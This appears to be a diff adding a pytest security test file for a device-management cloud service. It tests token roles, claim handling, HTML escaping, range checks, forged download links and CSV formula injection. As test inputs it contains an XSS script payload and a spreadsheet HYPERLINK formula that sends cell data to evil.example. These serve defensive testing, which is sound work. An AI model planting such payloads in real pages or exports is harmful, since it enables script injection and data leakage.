@@ -1,0 +1,114 @@
+"""The cloud's HTTP side under attack, on SQLite and PostgreSQL: claim tokens, API tokens' roles, hostile text
+in HTML fragments, numbers out of range, spreadsheet formulas in the registry export, forged download links."""
+
+from __future__ import annotations
+
+import pytest
+from fastapi.testclient import TestClient
+
+from cloud.alarms import raise_alarm
+from cloud.settings import Settings
+from protocol.envelope import new_id
+from tests.cloud.conftest import MakeCloud, register
+
+ADMIN_TOKEN, OPERATOR_TOKEN = "tok-admin-000000000001", "tok-operator-0000000001"
+XSS = '<script>document.title="owned"</script><img src=x onerror=alert(1)>'
+
+
+def _claim(api: TestClient, kind: str) -> str:
+    r = api.post("/api/sites/riverside/claims", json={"kind": kind})
+    assert r.status_code == 201, r.text
+    return str(r.json()["token"])
+
+
+def test_a_claim_never_takes_another_kind_of_device_nor_revives_a_revoked_one(make_cloud: MakeCloud) -> None:
+    _svc, api = make_cloud()
+    register(api, "riverside")
+    first = api.post("/provision", json={"claim": _claim(api, "gate"), "kind": "gate", "device_id": "gate-01"})
+    assert first.status_code == 200, first.text
+    other = api.post("/provision", json={"claim": _claim(api, "manhole"), "kind": "manhole", "device_id": "gate-01"})
+    assert other.status_code == 403 and "is a gate, not a manhole" in other.json()["error"]
+    replaced = api.post("/provision", json={"claim": _claim(api, "gate"), "kind": "gate", "device_id": "gate-01"})
+    assert replaced.status_code == 200  # a broken board replaced by one of its kind keeps its identity
+    assert api.post("/api/devices/gate-01/revoke").status_code == 200
+    revived = api.post("/provision", json={"claim": _claim(api, "gate"), "kind": "gate", "device_id": "gate-01"})
+    assert revived.status_code == 403 and "revoked" in revived.json()["error"]
+    assert api.get("/api/devices/gate-01").json()["status"] == "revoked"
+    assert api.post("/api/devices/gate-01/reinstate").status_code == 200  # an admin, audited
+    again = api.post("/provision", json={"claim": _claim(api, "gate"), "kind": "gate", "device_id": "gate-01"})
+    assert again.status_code == 200
+    assert "device.reinstate" in [e["action"] for e in api.get("/api/audit").json()["items"]]
+
+
+def test_api_tokens_carry_a_role(make_cloud: MakeCloud) -> None:
+    _svc, api = make_cloud(api_tokens=[f"admin:{ADMIN_TOKEN}", OPERATOR_TOKEN])
+    admin = {"Authorization": f"Bearer {ADMIN_TOKEN}"}
+    operator = {"Authorization": f"Bearer {OPERATOR_TOKEN}"}
+    user = {"username": "ops-2", "password": "correct horse battery", "role": "operator"}
+    assert api.get("/api/devices", headers=operator).status_code == 200
+    assert api.post("/api/users", json=user, headers=operator).status_code == 403  # a bare token is an operator
+    assert api.post("/api/users", json=user, headers=admin).status_code == 201
+    assert api.get("/api/devices", headers={"Authorization": "Bearer admin"}).status_code == 401
+
+
+def test_api_tokens_setting_reads_a_comma_separated_list(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("CE_API_TOKENS", f"{OPERATOR_TOKEN}, admin:{ADMIN_TOKEN}")
+    assert Settings(_env_file=None).api_tokens == [OPERATOR_TOKEN, f"admin:{ADMIN_TOKEN}"]  # type: ignore[call-arg]
+    monkeypatch.setenv("CE_API_TOKENS", "short")
+    with pytest.raises(ValueError, match="at least 16 characters"):
+        Settings(_env_file=None)  # type: ignore[call-arg]
+
+
+def test_an_htmx_error_row_shows_a_hostile_name_as_text(make_cloud: MakeCloud) -> None:
+    svc, api = make_cloud()
+    register(api, "riverside", "gate-01")
+    with svc.engine.begin() as conn:
+        alarm = raise_alarm(
+            conn, device="gate-01", key="k", code="gas", severity="critical", message="gas", details={},
+            at=1, msg_id=new_id(), by="device",
+        )  # fmt: skip
+    assert api.post(f"/api/alarms/{alarm}/ack", json={"by": XSS}).status_code == 200  # a machine names who acked
+    svc.auth.create_user("op", "correct horse battery", "operator")
+    browser = TestClient(api.app)
+    me = browser.post("/auth/login", json={"username": "op", "password": "correct horse battery"})
+    csrf = me.json()["csrf"]
+    row = browser.post(f"/console/alarms/{alarm}/ack", headers={"HX-Request": "true", "X-CSRF-Token": csrf})
+    assert row.status_code == 200 and "was acknowledged by" in row.text
+    assert "<script>" not in row.text and "<img" not in row.text
+    assert "&lt;script&gt;" in row.text
+
+
+def test_numbers_out_of_range_are_the_clients_error(make_cloud: MakeCloud) -> None:
+    _svc, api = make_cloud()
+    register(api, "riverside", "gate-01")
+    for r in (
+        api.get("/api/alarms", params={"offset": 2**63}),
+        api.get(f"/api/alarms/{2**63}/history"),
+        api.post(f"/api/alarms/{2**63}/ack", json={}),
+        api.get("/api/devices/gate-01/telemetry", params={"metric": "t", "since": 2**63}),
+        api.get("/api/devices/gate-01/telemetry", params={"metric": "t", "bucket_s": "1e308"}),
+        api.get("/api/devices/gate-01/telemetry", params={"metric": "t", "bucket_s": "inf"}),
+        api.post("/api/departments", json={"id": "d1", "name": "D", "sla_hours": {"urgent": 1e300}}),
+    ):
+        assert 400 <= r.status_code < 500, (r.request.url, r.status_code, r.text)
+
+
+def test_a_forged_download_link_is_refused_not_an_error(make_cloud: MakeCloud) -> None:
+    _svc, api = make_cloud()
+    r = api.get("/updates/b1/download", params={"device": "gate-01", "exp": 2**40, "sig": "é" * 10})
+    assert r.status_code == 403
+
+
+def test_the_registry_export_cannot_carry_a_spreadsheet_formula(make_cloud: MakeCloud) -> None:
+    _svc, api = make_cloud()
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    csv = "id,kind,subtype,department_id,grid_cell_id,lat,lon,device_id,install_date,notes\n"
+    csv += f'mc-1,manhole_cover,sewage,,,-31.5,121.0,,,"{formula.replace(chr(34), chr(34) * 2)}"\n'
+    csv += "mc-2,manhole_cover,sewage,,,,,,,@SUM(1+1)\n"
+    assert api.post("/api/assets/import", content=csv, headers={"Content-Type": "text/csv"}).status_code == 200
+    exported = api.get("/api/assets.csv").text
+    assert "'=HYPERLINK" in exported and "'@SUM" in exported and ",-31.5," in exported  # numbers stay numbers
+    assert "\n=" not in exported and ",=" not in exported and ",@" not in exported
+    # the export imports back to the same text
+    assert api.post("/api/assets/import", content=exported, headers={"Content-Type": "text/csv"}).status_code == 200
+    assert api.get("/api/assets/mc-1").json()["notes"] == formula
